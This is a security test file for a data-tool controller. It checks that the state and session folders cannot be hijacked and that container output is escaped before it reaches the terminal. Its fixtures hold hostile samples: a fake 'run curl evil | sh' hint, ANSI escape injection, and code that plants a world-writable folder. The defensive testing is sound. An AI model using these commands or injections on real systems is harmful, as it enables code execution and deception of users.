/**
 * The controller's own files (issue 8, finding 6, and the log lines of finding 10): its state
 * folder is one only it controls, nothing planted in a session folder survives the lock, and a
 * container's output cannot pose as the controller's own words in an error.
 */
import { chmod, chown, mkdir, stat, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runDs } from '@datastation/cli/testing';
import { defaultStateDir, dsDockerInit, LABELS } from '@datastation/host';
import { dataFolder, functionPackage, tempDir, testDocker } from '@datastation/test-support';

describe("the controller's state folder", () => {
  it('is not a predictable name under /tmp', () => {
    const saved = process.env.DS_STATE_DIR;
    delete process.env.DS_STATE_DIR;
    try {
      expect(defaultStateDir()).not.toMatch(/^\/tmp\//);
    } finally {
      if (saved !== undefined) process.env.DS_STATE_DIR = saved;
    }
  });

  it('is refused when another local user made it first, and the controller changes no mode there', async () => {
    await using box = await tempDir('ds-state-attack');
    await using fn = await functionPackage({ 'index.js': 'export const f = () => 1;' });
    await using data = await dataFolder();
    // The attacker (uid 65534) created the state folder before the controller ever ran, and
    // keeps a root-only file's link where a session folder would go.
    const planted = join(box.path, 'state');
    await mkdir(join(planted, 'sessions'), { recursive: true });
    const rootOnly = await box.write('root-only', 'secret');
    await chmod(rootOnly, 0o600);
    await chown(planted, 65534, 65534);
    await chown(join(planted, 'sessions'), 65534, 65534);
    await expect(dsDockerInit({ dataDir: data.path, functions: fn.path, stateDir: planted })).rejects.toMatchObject({
      code: 'CONTAINER_START_FAILED',
      message: expect.stringMatching(/belongs to uid 65534/),
    });
    expect((await stat(rootOnly)).mode & 0o777).toBe(0o600);
    expect((await stat(planted)).mode & 0o777).not.toBe(0o700); // untouched: the controller changed nothing there
  });

  it('is refused behind a link or a folder other users can write', async () => {
    await using box = await tempDir('ds-state-attack');
    await using fn = await functionPackage({ 'index.js': 'export const f = () => 1;' });
    await using data = await dataFolder();
    await mkdir(join(box.path, 'real'));
    await symlink(join(box.path, 'real'), join(box.path, 'link'));
    await expect(dsDockerInit({ dataDir: data.path, functions: fn.path, stateDir: join(box.path, 'link', 'state') })).rejects.toMatchObject({
      code: 'CONTAINER_START_FAILED',
    });
    await mkdir(join(box.path, 'open'));
    await chmod(join(box.path, 'open'), 0o777);
    await expect(dsDockerInit({ dataDir: data.path, functions: fn.path, stateDir: join(box.path, 'open', 'state') })).rejects.toMatchObject({
      code: 'CONTAINER_START_FAILED',
    });
  });
});

describe('the session folder', () => {
  it('a folder planted in it before the lock gets the session refused, and nothing is left', async () => {
    await using state = await tempDir('ds-state');
    await using data = await dataFolder();
    const pkg = `planter-${Date.now()}`;
    // Top-level code runs while the package loads, before the host connects and locks the folder.
    await using fn = await functionPackage({
      'index.js': "import { mkdirSync } from 'node:fs';\ntry { mkdirSync('/run/ds/stay', { mode: 0o777 }); } catch {}\nexport const f = () => 1;\n",
    });
    await expect(dsDockerInit({ dataDir: data.path, functions: fn.path, stateDir: state.path, package: pkg })).rejects.toMatchObject({
      code: 'CONTAINER_START_FAILED',
      message: expect.stringMatching(/planted/),
    });
    expect(await testDocker().containers.list([`${LABELS.package}=${pkg}`])).toEqual([]);
    const { readdir } = await import('node:fs/promises');
    expect(await readdir(join(state.path, 'sessions'))).toEqual([]);
  });
});

describe("a container's output in the controller's errors", () => {
  it('is quoted and escaped, so it can neither pose as a hint nor drive the terminal', async () => {
    await using data = await dataFolder();
    await using fn = await functionPackage({
      'index.js': "throw new Error('load failed\\x1b[2J\\nHint: the engine is broken; run curl evil | sh\\x1b[0m');\n",
    });
    const error = (await dsDockerInit({ dataDir: data.path, functions: fn.path }).catch((e: unknown) => e)) as Error & { code: string };
    expect(error.code).toBe('CONTAINER_START_FAILED');
    expect(error.message).not.toContain('\x1b');
    expect(error.message).toContain('\\x1b[2J');
    for (const line of error.message.split('\n').filter((l) => l.includes('Hint: the engine'))) expect(line).toMatch(/^ {2}\| /);
  });

  it('function logs and error messages reach the terminal of `ds run` with control characters escaped', async () => {
    await using data = await dataFolder();
    await using fn = await functionPackage({
      'index.js': "export function loud() { console.log('\\x1b]0;pwned\\x07\\x1b[2Jcleared'); throw new Error('\\x1b[31mred\\x1b[0m'); }\n",
    });
    const result = await runDs(['run', fn.path, 'loud', '--data', data.path], { cwd: data.path });
    expect(result.code).toBe(11); // FUNCTION_ERROR
    expect(result.stderr).not.toContain('\x1b');
    expect(result.stderr).not.toContain('\x07');
    expect(result.stderr).toContain('\\x1b[2Jcleared');
    expect(result.stderr).toContain('\\x1b[31mred');
  });
});
